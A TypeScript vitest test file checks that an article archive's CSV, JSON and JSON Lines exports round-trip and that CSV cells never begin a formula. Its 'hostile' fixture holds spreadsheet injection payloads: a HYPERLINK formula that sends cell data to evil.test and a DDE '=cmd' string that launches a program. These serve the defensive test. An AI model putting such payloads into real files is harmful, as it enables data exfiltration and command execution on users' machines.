/**
 * The export round-trips: the CSV, parsed back with csv-parse, rebuilds every
 * record of the JSON, and every record holds its article's metadata as the
 * front matter states it (names as the site spells them).
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseArticle, type Article } from '../../src/content/article.ts';
import { formatIssue } from '../../src/content/schema.ts';
import { archiveIndexes } from '../../src/collections/indexes.ts';
import { entityLinks, ENTITY_KINDS } from '../../src/collections/entities.ts';
import { parseCell } from '../../src/export/csv.ts';
import { storylineIndex } from '../../src/collections/storylines.ts';
import { archiveExport, formatArticles } from '../../src/export/index.ts';
import { ARTICLE_COLUMNS, type ArticleRecord } from '../../src/export/records.ts';
import { absoluteUrl, DEFAULT_SETTINGS } from '../../src/site/settings.ts';
import { fixtureArticleFiles } from '../support/fixture-archive.ts';
import { makeArticle } from '../support/make-article.ts';

const fixture: Article[] = fixtureArticleFiles().map((file) => {
  const parsed = parseArticle(file.text, file.path);
  if (!parsed.ok) throw new Error(parsed.issues.map(formatIssue).join('\n'));
  return parsed.article;
});
// Cells a spreadsheet would run, separators inside names, quotes, commas and line breaks.
const hostile = [
  makeArticle({
    title: '=HYPERLINK("https://evil.test/?"&A1,"click")',
    date: '2020-01-01',
    authors: ['@attacker', 'Jane "JJ" Doe, Jr.'],
    tags: ['-2+3', 'a; b', 'back\\slash', "'quoted"],
    people: ['+Plus Person'],
    summary: 'Line one,\r\nline two; "quoted" and\ttabbed.',
    source: { name: '=cmd|" /C calc"!A0', url: 'https://example.com/?a=1&b=-2' },
    body: '=1+1 is not a formula here.',
  }),
  makeArticle({ title: '\u2018Curly\u2019 and plain', date: '2020-01-02', organizations: ['AT&T', 'Organisation; Two'] }),
];
const articles = [...fixture, ...hostile];
const settings = { ...DEFAULT_SETTINGS, baseUrl: 'https://archive.test' };
const { indexes, registries } = archiveIndexes(articles, {});
const exported = archiveExport(articles, indexes, registries, settings, '9.9.9');
const storylines = storylineIndex(articles);

/** The records as a reader of the CSV gets them back. */
function fromCsv(csv: string): ArticleRecord[] {
  const rows = parse(csv, { columns: true, relax_quotes: false }) as Record<string, string>[];
  return rows.map(
    (row) =>
      Object.fromEntries(ARTICLE_COLUMNS.map((column) => [column.name, parseCell(row[column.name]!, column)])) as unknown as ArticleRecord,
  );
}

describe('the export round trip', () => {
  it('parses the CSV back into exactly the JSON records', () => {
    const csv = formatArticles(exported.articles, 'csv');
    expect(fromCsv(csv)).toEqual(JSON.parse(formatArticles(exported.articles, 'json')));
    expect(fromCsv(csv)).toHaveLength(articles.length);
  });

  it('reads the JSON Lines back into the same records', () => {
    const lines = formatArticles(exported.articles, 'jsonl').trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(exported.articles);
  });

  it("rebuilds every article's metadata from the CSV", () => {
    const byUrl = new Map(fromCsv(formatArticles(exported.articles, 'csv')).map((record) => [record.url, record]));
    for (const article of articles) {
      const record = byUrl.get(absoluteUrl(settings, article.url));
      expect(record, article.url).toBeDefined();
      expect({
        title: record!.title,
        date: record!.date,
        authors: record!.authors,
        outlet: record!.outlet,
        source_url: record!.source_url,
        summary: record!.summary,
        incidents: record!.incidents,
        storyline: record!.storyline,
        ...Object.fromEntries(ENTITY_KINDS.map((kind) => [kind, record![kind]])),
      }).toEqual({
        title: article.title,
        date: article.date,
        authors: article.authors,
        outlet: article.source?.name ?? null,
        source_url: article.source?.url ?? null,
        summary: article.summary ?? null,
        incidents: article.incidents,
        storyline: storylines.byArticle.get(article.url)?.key ?? null,
        ...Object.fromEntries(ENTITY_KINDS.map((kind) => [kind, entityLinks(indexes.get(kind)!, article[kind]).map((l) => l.name)])),
      });
    }
  });

  it('carries the fixture’s incidents and storylines, keyed by an editor’s key or the first report', () => {
    expect(exported.articles.filter((record) => record.incidents.length)).toHaveLength(4);
    const keys = new Set(exported.articles.flatMap((record) => record.storyline ?? []));
    expect(keys).toContain('cyber-norms-talks');
    expect([...keys].filter((key) => key !== 'cyber-norms-talks').every((key) => /^\d{4}-\d{2}-\d{2}-[a-z0-9-]+$/.test(key))).toBe(true);
  });

  it('keeps hostile cells as text: no cell of the CSV starts a formula', () => {
    const rows = parse(formatArticles(exported.articles, 'csv'), { columns: false }) as string[][];
    const risky = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky).toEqual([]);
  });
});
